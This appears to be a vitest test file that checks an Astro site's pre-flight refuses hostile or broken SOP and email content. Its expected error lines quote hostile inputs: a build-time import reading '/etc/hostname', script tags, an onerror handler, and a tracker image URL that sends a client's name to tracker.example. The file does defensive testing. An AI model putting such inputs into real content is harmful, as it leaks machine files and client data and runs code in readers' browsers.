import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { cp, mkdtemp, readdir, readFile, rm, symlink } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';

/**
 * Issue 11, items 8–10, through a real `astro build`: hostile or broken SOP and email bodies never
 * reach the build (its pre-flight refuses them at file:line, before anything runs or is written), and
 * the markup `check` accepts does build, with the company's image hosts in every page's policy.
 */

const run = promisify(execFile);
const projects: string[] = [];
afterAll(async () => {
  await Promise.all(projects.map((dir) => rm(dir, { recursive: true, force: true })));
});

/** The site's code with a fixture scenario's content (test/fixtures/_base with the scenario laid over it). */
async function fixtureSite(scenario: string): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), `sendoff-content-${scenario}-`));
  projects.push(dir);
  for (const entry of ['src', 'public', 'astro.config.mjs', 'package.json', 'tsconfig.json']) await cp(resolve(entry), join(dir, entry), { recursive: true });
  await cp(resolve('test/fixtures/_base'), dir, { recursive: true });
  await cp(resolve('test/fixtures', scenario), dir, { recursive: true, force: true });
  await symlink(resolve('node_modules'), join(dir, 'node_modules'), 'dir');
  return dir;
}

async function build(dir: string): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await run(process.execPath, ['node_modules/astro/bin/astro.mjs', 'build'], {
      cwd: dir,
      env: { ...process.env, ASTRO_TELEMETRY_DISABLED: '1', NO_COLOR: '1', FORCE_COLOR: '0', SENDOFF_TODAY: '2026-11-25' },
      maxBuffer: 64 * 1024 * 1024,
    });
    return { code: 0, stdout, stderr };
  } catch (error) {
    const failed = error as { code: number; stdout: string; stderr: string };
    return { code: failed.code, stdout: failed.stdout, stderr: failed.stderr };
  }
}

/** What a refused build must show: the pre-flight's report, and no sign that Astro got to the content. */
function expectRefused(result: { code: number; stdout: string; stderr: string }, dir: string) {
  expect(result.code).toBe(1);
  expect(result.stderr).toContain('[ContentCheckFailed] The content has problems; nothing was built.');
  expect(result.stderr).not.toContain('Stack trace');
  expect(result.stderr).not.toMatch(/\.mdx:0:0/);
  expect(result.stdout).not.toContain('generating static routes');
  expect(existsSync(join(dir, 'dist'))).toBe(false);
  expect(existsSync(join(dir, '.prerender'))).toBe(false);
}

describe('a build of content that check refuses stops at the pre-flight', () => {
  it('refuses an SOP that would run code at build or in the browser, at each line', async () => {
    const dir = await fixtureSite('sop-code');
    const result = await build(dir);
    expectRefused(result, dir);
    for (const line of [
      "sops/notify.mdx:17:1 error `import … from 'node:fs'` brings code into the SOP, which runs when the site is built (sop-code)",
      "sops/notify.mdx:18:1 error `import … from '/etc/hostname?raw'` would publish a file from the machine that builds the site (sop-code)",
      'sops/notify.mdx:19:1 error `export const p = (await import(',
      "sops/notify.mdx:25:1 error <script> runs code in every reader's browser (sop-code)",
      "sops/notify.mdx:27:29 error onerror on <img> is an event handler: it runs code in the reader's browser (sop-code)",
      'sops/legacy.md:16:6 error this image loads from tracker.example',
    ]) {
      expect(result.stderr).toContain(line);
    }
    expect(result.stderr).toMatch(/19 errors, 0 warnings in 2 files/);
  });

  it('refuses an email that would send client data to another host', async () => {
    const dir = await fixtureSite('remote-resource');
    const result = await build(dir);
    expectRefused(result, dir);
    expect(result.stderr).toContain('templates/emails/hello.md:11:1 error this image loads an address built from a template variable');
    expect(result.stderr).toContain('> 11 | ![](https://tracker.example/p.png?c={{ client.name }})');
  });

  it('refuses MDX that does not parse at the line in the file, not `:0:0` with a stack trace', async () => {
    const dir = await fixtureSite('mdx');
    const result = await build(dir);
    expectRefused(result, dir);
    expect(result.stderr).toContain('sops/notify.mdx:27:1 error the MDX does not parse: Expected a closing tag for `<div>` (mdx)');
    expect(result.stderr).toContain('sops/bad-import.mdx:8:16 error the MDX does not parse: Could not parse import/exports: Unexpected token (mdx)');
    expect(result.stderr).toContain('sops/mismatch.mdx:12:1 error the MDX does not parse: Unexpected closing tag `</summary>`, expected corresponding closing tag for `<details>` (opened on line 10) (mdx)');
  });
});

describe('markup that check accepts builds', () => {
  it('builds comments, literals, plain HTML, callouts and images from an allowed host, with that host in every page\'s policy', async () => {
    const dir = await fixtureSite('allowed-markup');
    const result = await build(dir);
    expect(result.stderr).not.toContain('error');
    expect(result.code).toBe(0);
    const page = await readFile(join(dir, 'dist/sops/notify/index.html'), 'utf8');
    expect(page).toContain('<kbd>Ctrl</kbd>');
    expect(page).toMatch(/<img src="https:\/\/cdn\.example\.com\/team\.png" alt="The team" width="320"\s*\/?>/);
    expect(page).not.toContain('Authors may leave notes');
    const policies = new Set<string>();
    for (const file of await htmlFiles(join(dir, 'dist'))) {
      const html = await readFile(file, 'utf8');
      policies.add(/<meta http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1] ?? `none in ${file}`);
    }
    for (const policy of policies) {
      expect(policy).toMatch(/(^|;)\s*default-src 'self';/);
      expect(policy).toContain("img-src 'self' data: https://cdn.example.com;");
    }
  });
});

async function htmlFiles(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  return entries.filter((entry) => entry.isFile() && entry.name.endsWith('.html')).map((entry) => join(entry.parentPath, entry.name));
}
